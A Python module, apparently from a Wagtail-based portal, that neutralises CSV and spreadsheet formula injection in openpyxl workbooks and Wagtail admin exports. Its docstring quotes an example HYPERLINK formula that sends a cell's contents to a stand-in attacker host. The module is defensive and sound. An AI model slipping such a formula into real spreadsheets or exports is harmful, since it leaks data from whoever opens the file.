"""User text in workbooks and CSV files stays text, never a formula (OWASP "CSV injection").

A kegiatan name ``=HYPERLINK("http://evil.example/?x="&A1,"Klik")`` written by openpyxl as it comes
becomes a live formula in the province's or ministry's Excel. The portal itself writes no formulas,
so every cell openpyxl took for one is turned back into a string: the text is kept exactly (the
template round trip reads it back verbatim) and Excel shows it instead of running it.
"""

from openpyxl.cell import WriteOnlyCell
from openpyxl.workbook import Workbook

# Characters that make a spreadsheet read a CSV field as a formula (OWASP).
CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def workbook_texts_literal(wb: Workbook) -> Workbook:
    """Every formula-looking cell of ``wb`` (a normal, not write-only, workbook) stored as a string.

    ``=1+1`` put into a cell has ``data_type == "f"``; afterwards it is ``"s"`` with the same value."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return wb


def row_texts_literal(ws, values: list) -> list:
    """A row for a write-only sheet: ``["=1+1", 3]`` becomes ``[WriteOnlyCell("=1+1", string), 3]``."""
    for index, value in enumerate(values):
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(ws, value=value)
            cell.data_type = "s"
            values[index] = cell
    return values


def csv_text(value):
    """A CSV field safe to open in a spreadsheet: ``"=1+1"`` becomes ``"'=1+1"``; numbers stay as they are."""
    if isinstance(value, str) and value.startswith(CSV_FORMULA_STARTS):
        return "'" + value
    return value


def wagtail_exports_formula_safe() -> None:
    """Every CSV the Wagtail admin offers writes formula-looking texts as text: Wagtail's own exports (Site
    history, reports such as "Locked pages", form submissions, generic listings) and wagtail_modeladmin's all
    write their rows through ``SpreadsheetExportMixin.write_csv_row``, which passes user text as it comes (a
    document titled ``=HYPERLINK(...)`` would run in the ministry's Excel). Wagtail's XLSX rows already store
    formula-looking cells as strings. Called once from ``CoreConfig.ready``; Wagtail has no setting for it."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin.write_csv_row, "formula_safe", False):
        return

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: csv_text(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    write_csv_row.formula_safe = True
    SpreadsheetExportMixin.write_csv_row = write_csv_row
